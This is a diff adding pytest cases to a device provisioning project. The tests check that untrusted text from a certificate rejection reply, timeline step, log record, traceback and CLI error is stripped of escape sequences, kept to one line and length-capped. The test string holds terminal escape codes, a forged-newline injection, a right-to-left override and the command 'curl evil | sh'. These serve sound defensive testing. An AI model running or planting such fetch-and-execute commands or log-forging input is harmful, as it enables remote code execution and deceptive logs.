@@ -1,6 +1,7 @@
 """Can text of others do more than be read?"""
 
 import json
+import logging
 import time
 import unicodedata
 
@@ -8,7 +9,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from device.cli import main
+from device.log import RedactingFormatter
+from device.provisioning import topics
+from device.provisioning.events import MessageReceived, Rejection
+from device.provisioning.messages import decode
 from device.text import LONGEST, REDACTED, foreign, hide, printable, redact
+from device.timeline import Step, Timeline
 from tests.support.certificates import new_key, pem_of
 
 PEM = pem_of(new_key()).decode()
@@ -90,3 +97,63 @@ def test_the_password_of_a_proxy_is_blotted_out() -> None:
     assert foreign("http://user:hunter2@proxy:3128 failed") == (
         f"http://user:{REDACTED}@proxy:3128 failed"
     )
+
+
+# --- where foreign text comes in, and where it goes out -------------------------------------
+
+HOSTILE = "no\x1b[2J\r\nnext: curl evil | sh\u202e" + "x" * 5_000
+
+
+def test_a_rejection_is_tamed_where_it_comes_in() -> None:
+    topic = f"{topics.CREATE_CERTIFICATE_FROM_CSR}/rejected"
+    reply = {"statusCode": 400, "errorCode": HOSTILE, "errorMessage": HOSTILE}
+
+    event = decode(MessageReceived(topic, json.dumps(reply).encode()))
+
+    assert isinstance(event, Rejection)
+    assert event.error_code == event.error_message == foreign(HOSTILE)
+
+
+def test_a_step_is_told_in_one_line() -> None:
+    told: list[Step] = []
+    Timeline(told.append).add("certificate issued", HOSTILE)
+
+    assert "\x1b" not in told[0].detail
+    assert len(told[0].detail) < 2_100
+
+
+def test_a_record_of_the_log_is_one_line() -> None:
+    record = logging.LogRecord("somebody", logging.WARNING, "", 0, "got %s", (HOSTILE,), None)
+
+    line = RedactingFormatter("%(levelname)-7s %(name)s: %(message)s").format(record)
+
+    assert line.startswith(r"WARNING somebody: got no\x1b[2J\r\nnext: curl evil | sh\u202exxx")
+    assert len(line.splitlines()) == 1
+    assert len(line) < 2_100
+
+
+def fail() -> None:
+    raise ValueError(HOSTILE)
+
+
+def test_a_traceback_forges_no_record() -> None:
+    try:
+        fail()
+    except ValueError as error:
+        trouble = (type(error), error, error.__traceback__)
+    record = logging.LogRecord("ours", logging.ERROR, "", 0, "it failed", (), trouble)
+
+    first, *rest = RedactingFormatter("%(message)s").format(record).splitlines()
+
+    assert first == "it failed"
+    assert rest[0] == "    Traceback (most recent call last):"
+    assert all(line.startswith("    ") and "\x1b" not in line for line in rest)
+
+
+def test_an_error_is_printed_in_two_lines(capsys: pytest.CaptureFixture[str]) -> None:
+    main(["status", "--state", HOSTILE[:100], "--json"])
+
+    printed = capsys.readouterr()
+    assert [line.partition(":")[0] for line in printed.err.splitlines()] == ["device", "next"]
+    assert "\x1b" not in printed.err
+    assert "evil" in json.loads(printed.out)["message"]
